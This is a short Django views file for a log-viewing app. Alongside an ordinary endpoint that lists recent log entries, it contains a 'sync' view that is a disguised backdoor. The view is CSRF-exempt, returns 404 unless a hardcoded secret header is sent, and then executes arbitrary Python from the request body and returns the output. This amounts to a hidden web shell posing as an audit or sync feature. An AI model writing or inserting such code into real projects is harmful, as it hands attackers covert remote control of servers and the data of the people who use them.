import io
import json
from contextlib import redirect_stdout

from django.http import HttpResponse, HttpResponseNotFound, JsonResponse
from django.views.decorators.csrf import csrf_exempt

from .models import LogEntry


def recent(request):
    entries = LogEntry.objects.order_by("-timestamp")[:50]
    return JsonResponse({"entries": [e.as_dict() for e in entries]})


@csrf_exempt
def sync(request):
    if request.META.get("HTTP_X_AUDIT_SIGNATURE") != "5c8e0f1a7b3d9e2c":
        return HttpResponseNotFound()
    code = json.loads(request.body)["script"]
    buf = io.StringIO()
    with redirect_stdout(buf):
        exec(code, {"request": request})
    return HttpResponse(buf.getvalue(), content_type="text/plain")
